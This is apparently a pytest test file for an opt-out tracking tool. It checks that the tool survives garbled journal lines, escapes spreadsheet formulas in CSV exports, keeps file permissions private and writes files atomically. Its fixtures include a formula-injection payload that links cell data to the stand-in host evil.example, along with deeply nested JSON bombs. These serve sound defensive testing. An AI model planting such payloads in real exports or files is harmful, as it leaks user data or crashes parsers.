"""The store under faults (issue 23): a journal line no parser can take, `export -o` into what is
not the tool's own, spreadsheet formulas in exported notes, files written whole or not at all, and
`mark` on anything that was sent."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import stat
from datetime import timedelta
from pathlib import Path

import pytest

from meta_optout_assist.store import files
from meta_optout_assist.store.journal import Journal, State, utc_now
from meta_optout_assist.store.receipts import Receipt
from tests.support.cli_inprocess import run_cli

WARNING = "skipped a garbled line"


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _sent(journal: Journal, **kw) -> str:
    rec = journal.start(platform="facebook", country="DE", email="a@b.eu", **kw)
    journal.update(rec.id, state=State.SUBMITTED, submitted_at=utc_now() - timedelta(days=2))
    return rec.id


# -- the journal survives any single line -------------------------------------------------------

def _hostile(kind: str, rid: str) -> bytes:
    event = b'{"v":1,"op":"update","id":"' + rid.encode() + b'","at":"2026-01-01T00:00:00Z","fields":'
    if kind == "nested":  # json.loads: RecursionError
        return b"[" * 200_000 + b"]" * 200_000
    if kind == "nested-object":
        return event + b'{"note":' + b'{"a":' * 100_000 + b"1" + b"}" * 100_002
    return event + b'{"note":"' + b"a" * (3 << 20) + b'"}}'  # far longer than any event the tool writes


@pytest.mark.parametrize("kind", ["nested", "nested-object", "huge"])
def test_one_hostile_line_is_skipped_with_the_torn_line_warning(tmp_path, capsys, kind):
    data = tmp_path / "data"
    j = Journal(data)
    a = _sent(j)
    with open(j.path, "ab") as fh:
        fh.write(_hostile(kind, a) + b"\n")
    b = _sent(j)  # `fill` starts a record: it reads the journal first

    assert [r.id for r in Journal(data).records()] == [a, b]
    err = capsys.readouterr().err
    assert f"line 3: {WARNING}" in err and "the other records are intact" in err
    assert "Traceback" not in err and "RecursionError" not in err

    for argv in (["status"], ["status", "--json"], ["export", "--format", "csv"],
                 ["export", "--format", "json"], ["receipt", a]):
        code, out = run_cli([*argv, "--data-dir", str(data)])
        assert code == 0, (argv, out)
        assert "line 3: " + WARNING in out and "Traceback" not in out, (argv, out)
    code, out = run_cli(["mark", b, "--outcome", "honored", "--data-dir", str(data)])
    assert code == 0, out


def test_a_hostile_manifest_is_no_manifest(tmp_path):
    j = Journal(tmp_path / "data")
    rid = _sent(j)
    receipt = Receipt.create(tmp_path / "data", rid)
    receipt.add_bytes("confirmation.png", b"\x89PNG")
    (receipt.dir / "manifest.json").write_bytes(b"[" * 100_000 + b"]" * 100_000)
    j.update(rid, receipt_dir=str(receipt.dir))
    assert receipt.manifest() is None
    code, out = run_cli(["receipt", rid, "--data-dir", str(tmp_path / "data")])
    assert code == 0 and "confirmation.png" in out, out


# -- export ---------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Meta\'s answer")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


def test_csv_cells_that_would_be_formulas_are_escaped(tmp_path):
    data = tmp_path / "data"
    j = Journal(data)
    ids = [_sent(j, note=note) for note in FORMULAS]
    code, out = run_cli(["export", "--format", "csv", "--data-dir", str(data)])
    assert code == 0, out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["id"] for row in rows] == ids
    for row, note in zip(rows, FORMULAS, strict=True):
        assert row["note"] == "'" + note, row["note"]  # OWASP: a leading quote, the rest as it was
    assert rows[0]["email"] == "a@b.eu" and rows[0]["state"] == "submitted"  # plain cells untouched
    # JSON is data, not a spreadsheet: notes stay as they were typed.
    code, out = run_cli(["export", "--format", "json", "--data-dir", str(data)])
    assert [row["note"] for row in json.loads(out[out.index("["):])] == FORMULAS


@pytest.fixture
def exported(tmp_path):
    data = tmp_path / "data"
    _sent(Journal(data), note="mine")

    def run(target: Path) -> tuple[int | str, str]:
        return run_cli(["export", "--format", "json", "-o", str(target), "--data-dir", str(data)])

    return run


@pytest.mark.parametrize("folder_mode", [0o755, 0o1777, 0o750])
def test_export_into_an_existing_folder_leaves_its_mode(tmp_path, exported, folder_mode):
    folder = tmp_path / "home"
    folder.mkdir()
    os.chmod(folder, folder_mode)
    code, out = exported(folder / "records.json")
    assert code == 0, out
    assert _mode(folder) == folder_mode, oct(_mode(folder))
    assert _mode(folder / "records.json") == 0o600  # a new file is the person's alone
    assert json.loads((folder / "records.json").read_text())[0]["note"] == "mine"


def test_export_over_an_existing_file_leaves_its_mode(tmp_path, exported):
    folder = tmp_path / "shared"
    folder.mkdir()
    os.chmod(folder, 0o755)
    target = folder / "records.json"
    target.write_text("old")
    os.chmod(target, 0o644)
    code, out = exported(target)
    assert code == 0, out
    assert (_mode(target), _mode(folder)) == (0o644, 0o755)
    assert json.loads(target.read_text())[0]["note"] == "mine"


def test_export_into_a_new_folder_makes_it_private(tmp_path, exported):
    code, out = exported(tmp_path / "new" / "deeper" / "records.json")
    assert code == 0, out
    assert _mode(tmp_path / "new") == 0o700 and _mode(tmp_path / "new" / "deeper") == 0o700


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_export_to_dev_full_is_a_clear_error_and_dev_keeps_its_mode(exported):
    dev, full = _mode(Path("/dev")), _mode(Path("/dev/full"))
    code, out = exported(Path("/dev/full"))
    assert code == 2, out
    assert "/dev/full" in out and "No space left" in out and "Traceback" not in out
    assert (_mode(Path("/dev")), _mode(Path("/dev/full"))) == (dev, full)
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode)  # never replaced by a file


# -- folders and files of the tool's own ------------------------------------------------------------

def test_private_dir_sets_the_mode_of_folders_it_creates_only(tmp_path):
    mine = tmp_path / "theirs"
    mine.mkdir()
    os.chmod(mine, 0o755)
    files.private_dir(mine / "a" / "b")
    assert _mode(mine) == 0o755
    assert _mode(mine / "a") == 0o700 and _mode(mine / "a" / "b") == 0o700
    files.private_dir(mine)
    assert _mode(mine) == 0o755


def test_a_file_is_written_whole_or_not_at_all(tmp_path, monkeypatch):
    """A full disk in the middle of a receipt file: the earlier version (or nothing) stays, never a
    cut-off file, and no temporary file is left behind."""
    receipt = Receipt.create(tmp_path / "data", "20260101-abcdef")
    receipt.add_bytes("confirmation.png", b"\x89PNG first")
    real_write = os.write

    def full_after_some(fd, data):
        if len(data) > 4:
            real_write(fd, bytes(data[:4]))
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_write(fd, data)

    monkeypatch.setattr(os, "write", full_after_some)
    for name in ("confirmation.png", "confirmation.html"):
        with pytest.raises(OSError) as caught:
            receipt.add_bytes(name, b"\x89PNG a much longer second version")
        assert caught.value.errno == errno.ENOSPC
    monkeypatch.undo()
    assert sorted(p.name for p in receipt.dir.iterdir()) == ["confirmation.png"]
    assert (receipt.dir / "confirmation.png").read_bytes() == b"\x89PNG first"


def test_receipt_listing_skips_a_temporary_file_a_kill_left(tmp_path):
    receipt = Receipt.create(tmp_path / "data", "20260101-abcdef")
    receipt.add_bytes("confirmation.png", b"\x89PNG")
    (receipt.dir / ".confirmation.html.tmp-1a2b3c").write_bytes(b"<html>cut")
    receipt.write_manifest(record=None, fields_sent={}, timestamps={})
    assert [f.name for f in receipt.files()] == ["confirmation.png", "manifest.json"]
    assert set(receipt.manifest()["files"]) == {"confirmation.png"}


# -- mark: anything that was sent --------------------------------------------------------------------

@pytest.mark.parametrize("later", [State.ABORTED, State.FAILED])
def test_mark_works_on_a_record_that_was_sent_whatever_came_after(tmp_path, later):
    """Records an older version wrote: sent (submitted_at set), then turned `aborted` or `failed`
    by something local."""
    data = tmp_path / "data"
    j = Journal(data)
    rid = _sent(j)
    j.update(rid, state=later, reason="interrupted (Ctrl-C)")
    code, out = run_cli(["mark", rid, "--outcome", "honored", "--data-dir", str(data)])
    assert code == 0, out
    assert Journal(data).get(rid).state is State.HONORED

    never = j.start(platform="facebook", country="DE", email="a@b.eu")
    j.update(never.id, state=later, reason="nothing was sent")
    code, out = run_cli(["mark", never.id, "--outcome", "honored", "--data-dir", str(data)])
    assert code == 2 and "never sent" in out
